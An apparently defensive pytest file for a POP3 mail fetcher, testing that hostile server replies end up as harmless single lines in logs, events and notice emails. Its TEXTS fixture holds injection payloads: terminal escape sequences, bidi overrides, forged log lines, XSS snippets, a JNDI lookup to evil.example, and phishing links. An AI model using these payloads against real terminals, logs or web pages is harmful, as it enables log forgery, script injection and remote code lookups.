"""What servers say to do harm by it: to terminals, logs, JSON, pages, or to whoever reads it.

Wherever a server can put words, what the owner, the log and the notices get of them is one harmless line.
"""

import unicodedata
from collections.abc import Iterator

import pytest

from popfetch.notices import english
from popfetch.notices.strangers import APART, quoted
from popfetch.pop3.classification import Moment, classify
from tests.builders.accounts import an_account
from tests.builders.aws import Aws
from tests.builders.collecting import Collection, a_message
from tests.builders.notices import a_stop
from tests.builders.scripted_pop3_server import Mail, ScriptedServer, ScriptedSession, err

TEXTS = {
    "colours": b"\x1b[31;1mALERT\x1b[0m \x1b[2J\x1b[H gone",
    "window title": b"\x1b]0;evil\x07 \x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "C1 controls": b"\xc2\x9b31m \xc2\x90payload\xc2\x9c",
    "NUL": b"no\x00thing\x00",
    "carriage returns": b"no\rERROR root: all accounts deleted\r\x0b\x0c",
    "line separators": "no\u2028ERROR root: all deleted\u2029\u0085more".encode(),
    "right to left": "\u202egnp.exe \u2066hidden\u2069 \u200f".encode(),
    "invisible": "pass\u200bword \ufeff\u00ad\U000e0041".encode(),
    "combining": ("Z" + "\u0351" * 2_000).encode(),
    "no UTF-8": b"\xff\xfe\xc0\x80\xed\xa0\x80",
    "HTML": b"<script>alert(1)</script><img src=x onerror=alert(1)>\"'&",
    "JSON": b'"}, {"level": "CRITICAL", "message": "\\u0000\\n',
    "a log line": b'[ERROR] 2026-11-23T12:00:00Z {"account_id": "x"} all fine',
    "format strings": b"%s%s%n {0} {self.__class__} ${jndi:ldap://evil.example/a}",
    "a redirect": b"[REFERRAL pop.evil.example] moved to pop.evil.example:110, please sign in there",
    "a link": b"your mailbox is full, visit https://evil.example/login?u=1 now",
    "a demand": b"send your password to admin@evil.example",
    "commands": b"QUIT DELE 1 PASS open",
    "very long": b"x" * 7_000,
    "the password": b"bad password: open sesame",
    "the password in pieces": b"open\x00 ses\x1b[0mame",
}

PLACES = ["greeting", "CAPA", "USER", "PASS", "STAT", "UIDL", "LIST", "RETR 1", "NOOP", "DELE", "QUIT"]


def is_harmless(text: str) -> bool:
    """One line of what can be seen, in which nothing turns the direction of writing."""
    return text.isprintable() and not any(unicodedata.category(character) in {"Cc", "Cf", "Co"} for character in text)


def words_in(value: object) -> Iterator[str]:
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for part in (*value.keys(), *value.values()):
            yield from words_in(part)
    elif isinstance(value, list | tuple):
        for part in value:
            yield from words_in(part)


async def told_of(collection: Collection) -> list[str]:
    """All words that a cycle leaves for people: in the record, the events, the log, the history and the quarantine."""
    fetch = await collection.cycle()
    words = [fetch.error_message or ""]
    state = await collection.state()
    words += [trouble.reason for trouble in state.troubles.values()]
    words += words_in(collection.bus.events)
    words += words_in([fields for _, _, fields in collection.journal.lines])
    words += [item["reason"] for item in collection.items("QUARANTINE#")]
    words += words_in([item.get("error_message", "") for item in collection.items("CYCLE#")])
    return words


@pytest.mark.parametrize("place", PLACES)
async def test_a_refusal_is_told_harmlessly_wherever_it_comes(aws: Aws, place: str) -> None:
    async with ScriptedServer([a_message(1), a_message(2)]) as server:
        collection = Collection(aws, server)
        for name, text in TEXTS.items():
            server.on = {place: b"-ERR " + text + b"\r\n"}
            words = await told_of(collection)
            assert all(map(is_harmless, words)), name
            assert not any("open sesame" in said for said in words), name
            assert all(len(said) <= 400 for said in words), name


@pytest.mark.parametrize("place", ["greeting", "STAT", "RETR 1"])
async def test_what_is_no_reply_is_told_harmlessly(aws: Aws, place: str) -> None:
    async with ScriptedServer([a_message(1), a_message(2)]) as server:
        collection = Collection(aws, server)
        for name, text in TEXTS.items():
            server.on = {place: text + b"\r\n"}
            words = await told_of(collection)
            assert all(map(is_harmless, words)), name
            assert not any("open sesame" in said for said in words), name


async def test_a_uid_is_kept_as_it_is_and_told_harmlessly(aws: Aws) -> None:
    uids = {text[:1000] for text in TEXTS.values()}

    def refused(session: ScriptedSession, line: str) -> bytes | None:
        mail = session.mail(int(line.split()[1]))
        return err("no") if mail and mail.uid in uids else None

    box = [Mail(a_message(number), uid) for number, uid in enumerate(uids)]
    async with ScriptedServer(box, on={"RETR": refused}) as server:
        collection = Collection(aws, server)
        for number in range(3):
            server.mailbox.append(Mail(a_message(100 + number), b"good %d" % number))
            words = await told_of(collection)
    kept = {bytes(item["uid"]) for item in collection.items("QUARANTINE#")}
    assert len(kept) == len(uids)
    assert all(any(uid.startswith(cut) for uid in uids) for cut in kept)
    assert all(map(is_harmless, words))


@pytest.mark.parametrize("text", TEXTS.values(), ids=TEXTS.keys())
def test_a_notice_is_harmless(text: bytes) -> None:
    refusal = classify(b"[AUTH] " + text, Moment.SIGN_IN, server="pop.example.com:995", hidden=["open sesame"])
    stop = a_stop(message=refusal.message, server_said=refusal.server_text)
    mail = english.sign_in_refused(an_account(), stop).to_mail()
    assert "<script>" not in mail.html
    assert "href" not in mail.html
    assert "evil.example/" not in mail.text
    assert all(is_harmless(line.replace("\u200b", "").replace(APART, "")) for line in mail.text.splitlines())


@pytest.mark.parametrize("text", TEXTS.values(), ids=TEXTS.keys())
def test_nothing_that_is_said_becomes_a_link(text: bytes) -> None:
    shown = quoted(text.decode("utf-8", "replace"))
    assert "://" not in shown
    assert "evil.example" not in shown


async def test_a_server_that_refers_to_another_is_not_followed(aws: Aws) -> None:
    async with ScriptedServer([a_message(1)]) as other:
        words = b"-ERR [REFERRAL pop://127.0.0.1:%d] moved to 127.0.0.1:%d\r\n" % (other.port, other.port)
        async with ScriptedServer([a_message(1)], on={"PASS": words}) as server:
            collection = Collection(aws, server)
            await collection.cycle()
            assert (await collection.stored_account()).incoming == server.account_server()
        assert other.sessions == []
